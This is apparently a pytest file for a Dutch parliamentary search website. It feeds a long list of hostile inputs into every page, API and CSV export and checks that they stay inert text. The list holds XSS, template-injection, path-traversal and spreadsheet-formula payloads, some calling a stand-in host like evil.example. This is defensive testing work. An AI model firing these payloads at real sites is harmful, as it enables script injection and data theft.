"""Texts stay texts: whatever a title, a query, an id, a name, a file name or a suggestion holds, no page runs it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import date
from urllib.parse import quote

import html5lib
import pytest
from lxml import etree
from starlette.testclient import TestClient

import vraagbaak
from vraagbaak import Bron, Document, Indiener, Mededeling, Passage
from vraagbaak.search.web import app
from vraagbaak.search.web.running_text import Link, is_safe_address, paragraphs
from vraagbaak.search.web.settings import Settings

ATTEMPTS = """
<script>alert(1)</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
"><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'><script>alert(1)</script>
' onmouseover='alert(1)
" onmouseover="alert(1)
" autofocus onfocus="alert(1)
` onmouseover=alert(1) `
x" style="background:url(javascript:alert(1))
--><script>alert(1)</script>
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</mark><script>alert(1)</script>
</svg><script>alert(1)</script>
</a><script>alert(1)</script>
<mark onclick=alert(1)>x</mark>
<mark><script>alert(1)</script></mark>
{{7*7}}
{{config}}
{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}
${alert(1)}
#{alert(1)}
<%= 7*7 %>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253Ealert(1)
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href=//evil.example/>
<form action=//evil.example><input type=submit>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import'//evil.example';</style>
<xmp><script>alert(1)</script></xmp>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
javascript:alert(1)
data:text/html,<script>alert(1)</script>
https://x.example/"onmouseover="alert(1)
https://x.example/<script>alert(1)</script>
//evil.example/%2e%2e
../../../../etc/passwd
=HYPERLINK("http://evil.example","x")
@SUM(1+1)*cmd|' /C calc'!A0
""".strip().splitlines()
"""Attempts at breaking out of text, attributes, comments, scripts, styles, templates, addresses and cells."""

MARKED = "zeldzaamwoord"


def test_there_are_enough_attempts() -> None:
    assert len(set(ATTEMPTS)) == len(ATTEMPTS) >= 60


def hostile(n: int, text: str) -> Document:
    """A document that holds an attempt in every text."""
    return Document(
        id=f"{text} {n}",
        soort="antwoord",
        titel=f"{MARKED} {text}",
        ingediend=date(2020, 1, 1 + n % 28),
        beantwoord=date(2020, 2, 1),
        vraagnummer=f"q{n}{text}",
        dossier=text,
        nummer=text,
        vergaderjaar=text,
        kamer=text,
        indieners=(Indiener(text, text),),
        ministeries=(text,),
        onderwerpen=(text,),
        samenvatting=f"{text} {MARKED}",
        toelichting=text,
        mededeling=Mededeling(text, date(2020, 1, 2), text, text),
        bronnen=(Bron("x", text, text, text), Bron("x", text, "", f"javascript:{text}")),
        passages=(Passage(text, f"{text} {MARKED}", f"{MARKED} {text}", text, text, (f"{text} {MARKED}",)),),
    )


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    path = tmp_path_factory.mktemp("hostile") / "index"
    with vraagbaak.writer(path) as writer:
        for n, text in enumerate(ATTEMPTS):
            writer.add(hostile(n, text))
    with TestClient(app.make(Settings(index=str(path), rate=0)), raise_server_exceptions=True) as made:
        yield made


ALLOWED = {
    *"html head meta title link script body a header div nav form label input button main h1 h2 h3 p span ul".split(),
    *"section aside footer figure figcaption svg g rect text line details summary table thead tbody tr th td".split(),
    *"ol li mark time dl dt dd article fieldset legend code em".split(),
}


def assert_only_ours(source: str) -> None:
    """What a browser makes of a page holds no element, handler, style or address that our templates do not make."""
    tree = html5lib.parse(source, treebuilder="lxml", namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            assert "script" not in str(element).lower(), element
            continue
        name = etree.QName(element).localname
        assert name in ALLOWED, etree.tostring(element)[:300]
        if name == "script":
            assert re.fullmatch(r"/static/vraagbaak\.\w+\.js", element.get("src")) and not element.text
        for key, value in element.attrib.items():
            assert not key.lower().startswith("on") and key != "style", etree.tostring(element)[:300]
            if key in ("href", "src", "action"):
                assert re.match(r"(/(?!/)|#|https?://)", value), etree.tostring(element)[:300]


@pytest.mark.parametrize("text", ATTEMPTS)
def test_an_attempt_stays_text_on_every_page(hostile_site: TestClient, text: str) -> None:
    asked = quote(text)
    part = quote(text, safe="")
    addresses = [
        f"/?q={asked}",
        f"/en/?q={asked}+{MARKED}",
        f"/?q={MARKED}&partij={asked}&indiener={asked}&ministerie={asked}&onderwerp={asked}",
        f"/?q={MARKED}&van={asked}&tot={asked}&sort={asked}&pagina={asked}",
        f"/waarden/partij?q={asked}&zoek={asked}",
        f"/waarden/{part}",
        f"/bladeren/indiener?zoek={asked}",
        f"/d/{part}%20{ATTEMPTS.index(text)}?q={MARKED}",
        f"/d/{part}?q={asked}&n={asked}",
        f"/indiener/{part}",
        f"/partij/{part}",
        f"/ministerie/{part}",
        f"/onderwerp/{part}",
        f"/dossier/{part}",
        f"/{part}",
    ]
    for address in addresses:
        response = hostile_site.get(address)
        assert response.status_code in (200, 404), address
        assert_only_ours(response.text)
    for address in (f"/api/suggest?prefix={asked}", f"/api/search?q={MARKED}+{asked}", f"/api/document/{part}"):
        response = hostile_site.get(address)
        assert response.status_code in (200, 404), address
        assert response.headers["content-type"] in ("application/json", "application/problem+json")
        assert response.headers["x-content-type-options"] == "nosniff"


def test_the_documents_are_shown_whole_all_the_same(hostile_site: TestClient) -> None:
    for n, text in enumerate(ATTEMPTS):
        if "%" in text:
            continue  # the test client decodes a path twice
        response = hostile_site.get(f"/d/{quote(f'{text} {n}', safe='')}?q={MARKED}")
        assert response.status_code == 200, text
        tree = html5lib.parse(response.text, treebuilder="lxml", namespaceHTMLElements=False)
        title = "".join(tree.find(".//h1").itertext())
        assert title == f"{MARKED} {text}"
        assert len(tree.findall(".//article//mark")) == 5


def test_snippets_of_the_api_hold_marks_and_nothing_else(hostile_site: TestClient) -> None:
    for hit in hostile_site.get(f"/api/search?q={MARKED}&limit=100").json()["hits"]:
        for passage in hit["passages"]:
            for snippet in (passage["vraag"], passage["antwoord"]):
                assert set(re.findall(r"<[^>]*>", snippet)) <= {"<mark>", "</mark>"}


def test_no_cell_of_an_export_runs_as_a_formula(hostile_site: TestClient) -> None:
    import csv
    import io

    rows = list(
        csv.reader(io.StringIO(hostile_site.get(f"/export.csv?q={MARKED}").text.lstrip("\ufeff")), delimiter=";")
    )
    assert len(rows) == 1 + len(ATTEMPTS)
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_only_web_addresses_of_documents_become_links() -> None:
    assert is_safe_address("https://www.tweedekamer.nl/x?y=1")
    for address in (
        "javascript:alert(1)",
        " https://x",
        "data:text/html,x",
        "//evil.example",
        "HTTPS://x\n",
        "ftp://x",
        "",
    ):
        assert not is_safe_address(address)


def test_marks_and_links_nest_and_split() -> None:
    text = "zie Kamerstuk 28 676 en <b>"
    link = Link(4, 20, "/d/x", "28676")
    assert paragraphs(text, [(0, 3), (14, 24)], [link]) == (
        '<p><mark>zie</mark> <a href="/d/x" title="28676">Kamerstuk <mark>28 676</mark></a><mark> en </mark>'
        "&lt;b&gt;</p>"
    )
    assert paragraphs("a\n\nb <i> https://x.example/?a=1&b=2.") == (
        "<p>a</p><p>b &lt;i&gt; "
        '<a href="https://x.example/?a=1&amp;b=2" rel="external noopener nofollow">'
        "https://x.example/?a=1&amp;b=2</a>.</p>"
    )
